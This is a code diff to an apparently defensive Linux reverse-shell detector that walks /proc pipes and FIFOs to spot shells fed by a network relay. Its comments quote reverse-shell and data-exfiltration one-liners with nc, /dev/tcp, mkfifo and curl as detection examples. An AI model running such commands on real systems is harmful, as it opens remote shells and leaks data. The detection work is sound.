@@ -197,6 +197,14 @@ static bool shell_or_interpreter(const char *exe)
     return false;
 }
 
+/* The applet busybox runs with the command line args[0..n) (NUL-terminated, n > 0): argv[0]'s
+ * name (a link named sh), or argv[1] after "busybox". Points into args. */
+static const char *applet_of(const char *args, size_t n)
+{
+    const char *a = base_name(args);
+    return !strcmp(a, "busybox") && strnlen(args, n) + 1 < n ? args + strlen(args) + 1 : a;
+}
+
 /* Programs that never hold a network connection while they start others, unless as a relay for
  * a remote operator: shells (`exec 3<>/dev/tcp/...`), socat (`exec:sh`, whose child gets a UNIX
  * socketpair), awk (gawk's /inet/tcp and `cmd |& getline`). busybox counts when it runs one of
@@ -214,9 +222,7 @@ static bool relay_capable(pid_t pid, const char *exe)
     if (n <= 0)
         return true; /* cannot tell which applet: count it */
     args[n] = '\0';
-    const char *applet = base_name(args);
-    if (!strcmp(applet, "busybox") && strnlen(args, (size_t)n) + 1 < (size_t)n)
-        applet = args + strlen(args) + 1;
+    const char *applet = applet_of(args, (size_t)n);
     return in_list(applet, shells, N_SHELLS) || !strcmp(applet, "awk");
 }
 
@@ -381,59 +387,184 @@ static bool script_argument_drifted(const struct exec_facts *f)
            (drifted(&st) || st.st_nlink == 0);
 }
 
+/* How a shell (or busybox running a shell applet) started with this command line takes its
+ * commands (shell_input: 0 from -c or a script, 1 from stdin, 2 from stdin told -i); 0 for
+ * any other program, whose /proc entries are not read. */
+static int shell_mode(struct proc_snapshot *proc, const char *exe)
+{
+    const char *base = base_name(exe), *args;
+    bool busybox = !strcmp(base, "busybox");
+    if (!busybox && !in_list(base, shells, N_SHELLS))
+        return 0;
+    ssize_t n = proc_snapshot_args(proc, &args, NULL);
+    if (n <= 0)
+        return !busybox; /* cannot tell: a shell reads its standard input */
+    const char *a = busybox ? applet_of(args, (size_t)n) : args;
+    return !busybox || in_list(a, shells, N_SHELLS) ? shell_input(a, (size_t)(args + n - a)) : 0;
+}
+
+/* What a shell's standard input is: -1 nothing to read commands from (a terminal or another
+ * character device such as /dev/null, no descriptor), 0 a file or a socket, 1 an anonymous
+ * pipe, 2 a named FIFO. stat opens nothing. */
+static int stdin_kind(pid_t pid)
+{
+    char target[8], fd0[64];
+    struct stat st;
+    snprintf(fd0, sizeof fd0, "/proc/%d/fd/0", (int)pid);
+    if (stat(fd0, &st) < 0 || S_ISCHR(st.st_mode))
+        return -1;
+    return S_ISFIFO(st.st_mode) ? 1 + (proc_link(pid, "fd/0", target, sizeof target) && target[0] == '/') : 0;
+}
+
+/* A shell that reads its commands (shell_mode) from a pipe or FIFO, and that exec'd that shell
+ * itself: not a fork of one (PF_FORKNOEXEC in the flags, field 9 of /proc/PID/stat), which is a
+ * subshell or a pipeline's member running builtins (`echo "$x" | curl -d @- URL` in a script
+ * piped into sh). */
+static bool command_reading_shell(pid_t pid)
+{
+    static struct proc_snapshot proc;
+    char exe[PATH_MAX], text[512];
+    unsigned flags = 0x40;
+    ssize_t n = proc_read(pid, "stat", text, sizeof text - 1, NULL);
+    text[n > 0 ? n : 0] = '\0';
+    const char *p = strrchr(text, ')');
+    if (p)
+        sscanf(p + 1, " %*c %*d %*d %*d %*d %*d %u", &flags);
+    proc_snapshot_begin(&proc, pid);
+    return !(flags & 0x40) && proc_link(pid, "exe", exe, sizeof exe) && shell_mode(&proc, exe) && stdin_kind(pid) > 0;
+}
+
+/* Where the data of a pipeline flows: from a process's stdout/stderr down to the processes
+ * reading that pipe or FIFO on their stdin (down), or from its stdin up to the processes
+ * writing it on their stdout/stderr (up), through at most PIPE_HOPS processes, each hop one
+ * pass over /proc reading the links of fds 0-2 ("pipe:[INODE]", or a FIFO's path). Does one
+ * of them satisfy `hit`? More processes or pipes than a pipeline has count as a hit (fail
+ * closed, as for descriptors). */
+#define PIPE_HOPS 4
+#define PIPE_KEYS 16
+#define KEY_MAX 128
+struct pipe_walk {
+    pid_t origin;
+    bool down, found;
+    int n[2], cur, seen;
+    char keys[2][PIPE_KEYS][KEY_MAX]; /* this hop's pipes, the next hop's */
+};
+
+/* Where descriptor fd of pid leads (its link, at most KEY_MAX - 1 bytes: a longer FIFO path
+ * is cut, and may match another's: more hits, never fewer); its index in keys[k] (n[k]
+ * when not there, PIPE_KEYS + 1 when it has none). */
+static int fd_key(struct pipe_walk *w, int k, pid_t pid, int fd, char *path, char *link)
+{
+    snprintf(path, 64, "/proc/%d/fd/%d", (int)pid, fd);
+    ssize_t len = readlink(path, link, KEY_MAX - 1);
+    if (len < 0)
+        return PIPE_KEYS + 1;
+    link[len] = '\0';
+    int i = 0;
+    while (i < w->n[k] && strcmp(w->keys[k][i], link))
+        i++;
+    return i;
+}
+
+/* The pipes and FIFOs process pid passes the data on through, the next hop's keys: the pipe
+ * or FIFO on its stdout/stderr (down) or stdin (up), and for a process met on the way (all)
+ * a FIFO it opened by name on any descriptor (`cat g | nc ...`: which way it goes is not
+ * told, both count). More descriptors than such a process has count as a hit. */
+struct walk_from {
+    struct pipe_walk *w;
+    pid_t pid;
+    bool all;
+    int seen;
+};
+
+static bool from_fd(long fd, void *ctx)
+{
+    struct walk_from *c = ctx;
+    struct pipe_walk *w = c->w;
+    int k = !w->cur;
+    bool stdio = fd >= w->down && fd <= 2 * w->down;
+    char path[64], link[KEY_MAX];
+    struct stat st;
+    if (++c->seen > 4096)
+        w->found = true;
+    else if (!(stdio || c->all))
+        return true;
+    int i = fd_key(w, k, c->pid, (int)fd, path, link);
+    if (i > PIPE_KEYS || (link[0] == '/' ? stat(path, &st) || !S_ISFIFO(st.st_mode) : !stdio || strncmp(link, "pipe:[", 6)))
+        return !w->found;
+    if (i == PIPE_KEYS)
+        w->found = true;
+    else if (i == w->n[k])
+        memcpy(w->keys[k][w->n[k]++], link, KEY_MAX);
+    return !w->found;
+}
+
+static void walk_from(struct pipe_walk *w, pid_t pid, bool all)
+{
+    char dir[64];
+    struct walk_from c = {w, pid, all, 0};
+    snprintf(dir, sizeof dir, "/proc/%d/fd", (int)pid);
+    proc_each_number(dir, from_fd, &c);
+}
+
+/* Down: a process holding a connection (the relay); up: a shell reading commands. */
+static bool walk_one(long pid, void *ctx)
+{
+    struct pipe_walk *w = ctx;
+    if (++w->seen > 32768)
+        w->found = true;
+    for (int fd = !w->down; !w->found && pid != w->origin && fd <= 2 * !w->down; fd++) {
+        char path[64], link[KEY_MAX];
+        if (fd_key(w, w->cur, (pid_t)pid, fd, path, link) < w->n[w->cur]) {
+            w->found = w->down ? shell_holds_connection((pid_t)pid, false) : command_reading_shell((pid_t)pid);
+            walk_from(w, (pid_t)pid, true);
+            break;
+        }
+    }
+    return !w->found;
+}
+
+static bool pipe_walk(pid_t origin, bool down)
+{
+    static struct pipe_walk w;
+    w.origin = origin;
+    w.down = down;
+    w.found = false;
+    w.n[0] = 0;
+    w.cur = 1;
+    walk_from(&w, origin, false);
+    for (int hop = 0; hop < PIPE_HOPS && w.n[!w.cur] && !w.found; hop++) {
+        w.cur = !w.cur;
+        w.n[!w.cur] = w.seen = 0;
+        proc_each_number("/proc", walk_one, &w);
+    }
+    return w.found;
+}
+
+bool protections_fed_by_shell(pid_t pid)
+{
+    return pipe_walk(pid, false);
+}
+
+/* A shell that reads its commands from a standard input that is no terminal (no script
+ * operand, no -c; or -s), when that input is a named FIFO (`mkfifo f; sh < f 2>&1 | RELAY > f`),
+ * when it is told to be interactive (`cat f | sh -i 2>&1 | RELAY > f`), or when what it writes
+ * on stdout/stderr reaches, through pipes or FIFOs, the stdin of a process holding a network
+ * connection (`cat f | sh 2>&1 | nc HOST PORT > f`, the relay connected first; when the shell
+ * came first, the relay's connect is refused: protections_fed_by_shell). The relay (nc,
+ * openssl s_client, a script) holds the connection and never runs a command itself. Commands
+ * piped into a plain `sh` whose output goes elsewhere (`curl ... | sh`), a script given as an
+ * operand and `-c` are left alone. */
+static bool shell_fed_from_outside(struct proc_snapshot *proc, const char *exe)
+{
+    int mode = shell_mode(proc, exe), in = mode ? stdin_kind(proc->pid) : -1;
+    return in == 2 || (in >= 0 && mode == 2) || (in > 0 && pipe_walk(proc->pid, true));
+}
+
 /* A reverse shell: a shell or interpreter started with its stdio on a network socket; or
  * any program started by one that got there without an exec of its own (a shell that
  * redirected itself, `exec 0<&3`, or Python's pty.spawn after dup2: its stdio is the
  * socket, the new shell's a terminal), or by a shell, socat or awk holding a connection. */
-/* A shell that reads its commands from standard input fed from elsewhere: a named FIFO
- * (`mkfifo f; sh < f 2>&1 | RELAY > f`), or any non-terminal when it is told to be interactive
- * (`cat f | sh -i 2>&1 | RELAY > f`), where the relay (nc, openssl s_client, a script) holds the
- * connection and never runs a command itself. Commands piped into a plain `sh` (`curl ... | sh`),
- * a script given as an operand and `-c` are left alone. */
-static bool shell_fed_from_outside(struct proc_snapshot *proc, const char *exe)
-{
-    pid_t pid = proc->pid;
-    if (!in_list(base_name(exe), shells, N_SHELLS) && strcmp(base_name(exe), "busybox") != 0)
-        return false; /* not a shell: no /proc read for every other program */
-    char target[PATH_MAX];
-    if (!proc_link(pid, "fd/0", target, sizeof target))
-        return false;
-    static const char *const terminals[] = {"/dev/pts/", "/dev/tty", "/dev/console"};
-    for (size_t i = 0; i < sizeof terminals / sizeof terminals[0]; i++)
-        if (!strncmp(target, terminals[i], strlen(terminals[i])))
-            return false;
-    bool fifo = false;
-    if (target[0] == '/') { /* a named file: is it a FIFO? (stat does not open it) */
-        char fd0[64];
-        struct stat st;
-        snprintf(fd0, sizeof fd0, "/proc/%d/fd/0", (int)pid);
-        fifo = stat(fd0, &st) == 0 && S_ISFIFO(st.st_mode);
-    }
-    const char *args;
-    bool cut = false;
-    ssize_t n = proc_snapshot_args(proc, &args, &cut);
-    if (n <= 0)
-        return fifo && in_list(base_name(exe), shells, N_SHELLS); /* cannot tell how it was started */
-    const char *end = args + n, *a = args;
-    bool shell = in_list(base_name(exe), shells, N_SHELLS);
-    if (!shell && !strcmp(base_name(exe), "busybox")) {
-        /* the applet is argv[0] (a link named sh), or argv[1] after "busybox" */
-        if (!strcmp(base_name(a), "busybox") && a + strlen(a) + 1 < end)
-            a += strlen(a) + 1; /* the options follow the applet */
-        shell = in_list(base_name(a), shells, N_SHELLS);
-    }
-    if (!shell)
-        return false;
-    bool interactive = false;
-    for (a += strlen(a) + 1; a < end; a += strlen(a) + 1) {
-        if (a[0] != '-' || (a[1] != '-' && strchr(a, 'c')))
-            return false; /* a script operand, or -c: the commands come from elsewhere */
-        if (a[1] != '-' && strchr(a, 'i'))
-            interactive = true;
-    }
-    return !cut && (fifo || interactive);
-}
-
 static bool reverse_shell(const struct exec_facts *f)
 {
     if (shell_or_interpreter(f->exe) && stdio_on_network(f->pid))
@@ -552,9 +683,7 @@ static bool program_from_image(const struct exec_facts *f)
     if (!strcmp(base, "busybox")) {
         const char *args;
         ssize_t n = proc_snapshot_args(f->proc, &args, NULL);
-        const char *applet = n > 0 ? base_name(args) : "";
-        if (n > 0 && !strcmp(applet, "busybox") && strnlen(args, (size_t)n) + 1 < (size_t)n)
-            applet = args + strlen(args) + 1;
+        const char *applet = n > 0 ? applet_of(args, (size_t)n) : "";
         shell = in_list(applet, shells, N_SHELLS);
         if (!shell)
             return strcmp(applet, "awk") != 0; /* an applet that is a program, not an interpreter */
